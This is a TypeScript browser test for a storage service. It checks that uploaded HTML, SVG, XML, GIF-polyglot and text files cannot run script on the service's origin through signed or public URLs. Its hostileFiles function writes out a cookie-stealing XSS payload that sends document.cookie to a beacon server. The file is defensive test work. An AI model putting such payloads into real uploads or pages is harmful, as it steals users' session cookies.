// Real-browser check of finding 1 (issue 13): hostile files opened in Chromium by every kind of object URL,
// on the origin that serves them, after that origin set a cookie. A script that ran would copy the cookie
// into the page title and ping a beacon server; neither may happen.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { serve, type ServerType } from "@hono/node-server";
import { chromium, type Browser } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startStorageTestbed, type StorageTestbed } from "./test-kit";

let bed: StorageTestbed;
let browser: Browser;
let storageServer: ServerType;
let beaconServer: Server;
let origin = "";
const beaconHits: string[] = [];

const listen = (server: Server) =>
  new Promise<number>((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)));

function hostileFiles(beacon: string) {
  const steal = `document.title = 'ran:' + document.cookie; new Image().src = '${beacon}/?c=' + encodeURIComponent(document.cookie);`;
  return [
    { name: "page.html", type: "text/html", body: `<!doctype html><title>x</title><script>${steal}</script>` },
    { name: "image.svg", type: "image/svg+xml", body: `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>` },
    {
      name: "doc.xml",
      type: "text/xml",
      body: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${steal}</script></body></html>`,
    },
    { name: "poly.gif", type: "image/gif", body: `GIF89a<html><title>x</title><script>${steal}</script></html>` },
    { name: "sniff.txt", type: "text/plain", body: `<html><title>x</title><script>${steal}</script></html>` },
  ];
}

beforeAll(async () => {
  beaconServer = createServer((request, response) => {
    beaconHits.push(request.url ?? "");
    response.end();
  });
  const beacon = `http://127.0.0.1:${await listen(beaconServer)}`;
  bed = await startStorageTestbed();
  await bed.service.storage.createBucket("open", { public: true });
  const port = await new Promise<number>((resolve) => {
    storageServer = serve({ fetch: bed.root.fetch, hostname: "127.0.0.1", port: 0 }, (info) => resolve(info.port));
  });
  origin = `http://127.0.0.1:${port}`;
  for (const file of hostileFiles(beacon)) {
    for (const bucket of ["files", "open", "avatars"]) {
      await bed.userA.storage
        .from(bucket)
        .upload(`${bed.idA}/${file.name}`, new Blob([file.body], { type: file.type }), { contentType: file.type });
    }
  }
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"],
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => storageServer?.close(resolve));
  await new Promise((resolve) => beaconServer?.close(resolve));
  await bed?.close();
});

/** Every URL the service hands out for an object, rebased onto the live server. */
async function urlsFor(bucket: string, key: string): Promise<string[]> {
  const client = bed.userA.storage.from(bucket);
  const rebase = (url: string) => url.replace("http://storage.test", origin);
  const urls = [rebase((await client.createSignedUrl(key, 60)).data!.signedUrl)];
  if (bucket !== "files") {
    urls.push(rebase(client.getPublicUrl(key).data.publicUrl));
    urls.push(rebase(client.getPublicUrl(key, { transform: { width: 8 } }).data.publicUrl));
  }
  return urls;
}

describe("hostile files in Chromium", () => {
  it("run no script on the storage origin by any URL", async () => {
    const context = await browser.newContext({ acceptDownloads: true });
    const page = await context.newPage();
    await page.goto(`${origin}/storage/v1/health`);
    await page.evaluate(() => {
      document.cookie = "session=victim-secret; path=/";
    });
    let opened = 0;
    for (const file of hostileFiles("")) {
      for (const bucket of ["files", "open", "avatars"]) {
        const key = `${bed.idA}/${file.name}`;
        if ((await bed.service.storage.from(bucket).exists(key)).data !== true) continue;
        for (const url of await urlsFor(bucket, key)) {
          // A download aborts the navigation (that is the point); an inline file loads.
          await page.goto(url, { waitUntil: "load" }).catch(() => undefined);
          opened += 1;
          expect(await page.title(), url).not.toContain("ran:");
        }
      }
    }
    // The same page can still run its own script and read the cookie: the check above could fail.
    await page.goto(`${origin}/storage/v1/health`);
    expect(await page.evaluate(() => document.cookie)).toContain("victim-secret");
    expect(opened).toBeGreaterThan(10);
    expect(beaconHits).toEqual([]);
    await context.close();
  }, 120_000);
});
